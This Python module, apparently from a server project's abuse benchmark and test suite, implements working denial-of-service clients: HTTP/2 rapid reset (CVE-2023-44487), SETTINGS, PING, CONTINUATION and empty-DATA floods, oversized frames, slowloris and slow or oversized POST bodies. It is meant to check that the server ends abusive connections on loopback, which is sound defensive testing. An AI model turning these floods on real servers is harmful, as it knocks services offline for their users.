"""Abusive clients, for ``pushsim bench abuse`` and the abuse tests: each opens one connection
to a listener, misbehaves in one way, and reports how the server ended it.

They are plain blocking-socket functions (run them in a thread or another process), bounded in
frames and in time, and speak only to loopback. The HTTP/2 ones write raw frames
(``hyperframe``) so that they can send what no well-behaved client library would.
"""

from __future__ import annotations

import contextlib
import itertools
import select
import socket
import ssl
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

from h2.errors import ErrorCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_GOAWAY = 0x7


@dataclass(frozen=True)
class Target:
    """Where an attack goes: a loopback port, with TLS or not, maybe through the CONNECT proxy."""

    port: int
    tls: bool = True
    alpn: tuple[str, ...] = ("h2",)
    via_proxy: tuple[int, str] | None = None
    """(proxy port, ``host:port`` to CONNECT to): the attack then runs inside the tunnel."""
    host: str = "127.0.0.1"


@dataclass(frozen=True)
class Outcome:
    """How the server ended the abusive connection."""

    closed: bool
    """The server closed the connection (or reset it) before the attack's time ran out."""
    goaway: ErrorCodes | int | None
    """The error code of the server's GOAWAY, if it sent one."""
    status: int | None
    """The HTTP/1.1 status line's code, for attacks on HTTP/1.1 listeners."""
    sent: int
    """Frames (or bytes, for byte-wise attacks) sent before the end."""
    seconds: float


def _connect(target: Target, timeout: float) -> socket.socket:
    raw = socket.create_connection((target.host, target.port), timeout=timeout)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sni = target.host
    if target.via_proxy is not None:
        raw.close()
        proxy_port, authority = target.via_proxy
        raw = socket.create_connection((target.host, proxy_port), timeout=timeout)
        raw.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = raw.recv(4096)
            if not chunk:
                raise ConnectionError("the proxy closed the tunnel")
            head += chunk
        if not head.startswith(b"HTTP/1.1 200"):
            raise ConnectionError(f"the proxy refused: {head[:60]!r}")
        sni = authority.rpartition(":")[0]
    if not target.tls:
        return raw
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # an attacker trusts nobody, and needs not be trusted
    if target.alpn:
        context.set_alpn_protocols(list(target.alpn))
    return context.wrap_socket(raw, server_hostname=sni)


class _Wire:
    """One connection: send bytes, collect what the server says, notice when it closes."""

    def __init__(self, sock: socket.socket, deadline: float) -> None:
        self.sock = sock
        self.deadline = deadline
        self.received = b""
        self.closed = False

    def send(self, data: bytes) -> bool:
        """Send; False once the server has closed the connection."""
        if self.closed:
            return False
        try:
            self.sock.settimeout(max(0.01, self.deadline - time.monotonic()))
            self.sock.sendall(data)
        except (OSError, ssl.SSLError):
            self.closed = True
            self.drain(0.2)
            return False
        self.drain(0.0)
        return not self.closed

    def drain(self, wait: float) -> None:
        """Read what the server sent, waiting up to ``wait`` seconds for the first of it."""
        end = time.monotonic() + wait
        while True:
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            left = max(0.0, end - time.monotonic())
            if not pending and not select.select([self.sock], [], [], left)[0]:
                return
            try:
                self.sock.settimeout(max(0.01, left))
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, TimeoutError):
                return
            except (OSError, ssl.SSLError):
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.received += chunk

    def wait_closed(self) -> None:
        """Wait (until the deadline) for the server to close the connection."""
        while not self.closed and time.monotonic() < self.deadline:
            self.drain(min(0.25, max(0.0, self.deadline - time.monotonic())))

    def goaway(self) -> int | None:
        """The error code of the first GOAWAY in what the server sent (after its preface)."""
        data = self.received
        while len(data) >= 9:
            length = int.from_bytes(data[:3], "big")
            if data[3] == _GOAWAY and len(data) >= 9 + 8:
                code = int.from_bytes(data[13:17], "big")
                with contextlib.suppress(ValueError):
                    return ErrorCodes(code)
                return code
            data = data[9 + length :]
        return None

    def status(self) -> int | None:
        line = self.received.split(b"\r\n", 1)[0].split(b" ")
        return int(line[1]) if len(line) > 1 and line[1].isdigit() else None


def _run(
    target: Target,
    pieces: Iterable[bytes],
    seconds: float,
    *,
    batch: int = 50,
    count_bytes: bool = False,
    until_answer: bool = False,
    h2: bool = True,
) -> Outcome:
    """Send ``pieces`` (``batch`` at a time) until the server ends the connection, the pieces
    run out (then wait for the end) or ``seconds`` pass; ``until_answer`` stops sending once the
    server said anything."""
    began = time.monotonic()
    wire = _Wire(_connect(target, seconds), began + seconds)
    sent = 0
    try:
        group: list[bytes] = []
        for piece in itertools.chain(pieces, [b""]):
            group.append(piece)
            if len(group) < batch and piece:
                continue
            if not wire.send(b"".join(group)):
                break
            sent += sum(map(len, group)) if count_bytes else len(group) - (not piece)
            group = []
            if (until_answer and wire.received) or time.monotonic() > wire.deadline:
                break
        wire.wait_closed()
        goaway = wire.goaway() if h2 else None
        return Outcome(wire.closed, goaway, wire.status(), sent, time.monotonic() - began)
    finally:
        with contextlib.suppress(OSError):
            wire.sock.close()


def _h2(frames: Iterable[bytes]) -> Iterator[bytes]:
    """The client preface and SETTINGS, then ``frames``."""
    yield PREFACE + bytes(SettingsFrame(0).serialize())
    yield from frames


def _request_headers(stream: int, encoder: Encoder, *, end_stream: bool) -> bytes:
    block = encoder.encode(
        [(":method", "POST"), (":scheme", "https"), (":authority", "localhost"), (":path", "/")]
    )
    frame = HeadersFrame(stream, block)
    frame.flags.add("END_HEADERS")
    if end_stream:
        frame.flags.add("END_STREAM")
    return bytes(frame.serialize())


def _serialized(frame: Frame) -> bytes:
    return bytes(frame.serialize())


# -- the attacks ---------------------------------------------------------------------------------


def rapid_reset(target: Target, *, pairs: int = 20_000, seconds: float = 10.0) -> Outcome:
    """HEADERS then RST_STREAM at once, again and again (CVE-2023-44487)."""
    encoder = Encoder()

    def frames() -> Iterator[bytes]:
        for i in range(pairs):
            stream = 1 + 2 * i
            yield _request_headers(stream, encoder, end_stream=False)
            yield _serialized(RstStreamFrame(stream, error_code=ErrorCodes.CANCEL))

    return _run(target, _h2(frames()), seconds)


def oversized_frame(target: Target, *, seconds: float = 5.0) -> Outcome:
    """A DATA frame header announcing 16 MiB, far over the 16 KiB max frame size, then a trickle
    of its payload: the server must refuse at the header."""

    def frames() -> Iterator[bytes]:
        header = (2**24 - 1).to_bytes(3, "big") + bytes([0x0, 0x0]) + (1).to_bytes(4, "big")
        yield header
        for _ in range(20):
            yield b"\0" * 1024

    return _run(target, _h2(frames()), seconds)


def settings_flood(target: Target, *, count: int = 50_000, seconds: float = 10.0) -> Outcome:
    """SETTINGS frames, each to be acknowledged."""
    frame = _serialized(SettingsFrame(0, settings={0x4: 65_535}))
    return _run(target, _h2([frame] * count), seconds)


def ping_flood(target: Target, *, count: int = 50_000, seconds: float = 10.0) -> Outcome:
    """PING frames, each to be answered."""
    frame = _serialized(PingFrame(0, opaque_data=b"pushsim!"))
    return _run(target, _h2([frame] * count), seconds)


def empty_data_flood(target: Target, *, count: int = 50_000, seconds: float = 10.0) -> Outcome:
    """A request whose body is an endless run of empty DATA frames."""
    empty = _serialized(DataFrame(1, b""))

    def frames() -> Iterator[bytes]:
        yield _request_headers(1, Encoder(), end_stream=False)
        for _ in range(count):
            yield empty

    return _run(target, _h2(frames()), seconds)


def continuation_flood(target: Target, *, count: int = 50_000, seconds: float = 10.0) -> Outcome:
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames."""
    block = Encoder().encode([(":method", "POST"), (":path", "/")])

    def frames() -> Iterator[bytes]:
        yield _serialized(HeadersFrame(1, block))
        padding = Encoder().encode([("x-filler", "a" * 1000)])
        for _ in range(count):
            yield _serialized(ContinuationFrame(1, padding))

    return _run(target, _h2(frames()), seconds)


def silent(target: Target, *, seconds: float = 30.0) -> Outcome:
    """Connect (finish the TLS handshake) and say nothing: the server must hang up."""
    return _run(target, (), seconds, h2=False)


def slow_head(target: Target, *, seconds: float = 30.0, every: float = 0.2) -> Outcome:
    """An HTTP/1.1 request head sent one byte at a time, never finished (slowloris)."""

    def pieces() -> Iterator[bytes]:
        head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 10_000
        for byte in head:
            time.sleep(every)
            yield bytes([byte])

    return _run(target, pieces(), seconds, batch=1, h2=False)


def slow_body(
    target: Target,
    *,
    path: str = "/",
    headers: tuple[tuple[str, str], ...] = (),
    seconds: float = 60.0,
    every: float = 0.2,
) -> Outcome:
    """An HTTP/1.1 POST with a whole head announcing 100,000 bytes of body, then the body one
    byte at a time (slow POST): the server must answer (408) or close at its body timeout."""
    size = 100_000
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {size}\r\n"
    head += "Content-Type: application/json\r\n"
    head += "".join(f"{name}: {value}\r\n" for name, value in headers) + "\r\n"

    def pieces() -> Iterator[bytes]:
        yield head.encode()
        for _ in range(size):
            time.sleep(every)
            yield b" "

    return _run(target, pieces(), seconds, batch=1, count_bytes=True, h2=False)


def big_body(
    target: Target,
    *,
    path: str = "/",
    headers: tuple[tuple[str, str], ...] = (),
    size: int = 64 * 1024 * 1024,
    seconds: float = 10.0,
) -> Outcome:
    """An HTTP/1.1 POST announcing ``size`` bytes, then sending them: the server must answer
    (413, or 401 without credentials) and close before it has read them all."""
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {size}\r\n"
    head += "".join(f"{name}: {value}\r\n" for name, value in headers) + "\r\n"
    chunk = b"x" * 65536
    pieces = itertools.chain([head.encode()], itertools.repeat(chunk, size // len(chunk)))
    return _run(target, pieces, seconds, batch=1, count_bytes=True, until_answer=True, h2=False)


def preface_then_silence(target: Target, *, seconds: float = 5.0) -> Outcome:
    """The HTTP/2 preface and a SETTINGS frame, then nothing (to an HTTP/1.1-only listener, or
    to see an idle HTTP/2 connection closed)."""
    return _run(target, _h2(()), seconds)
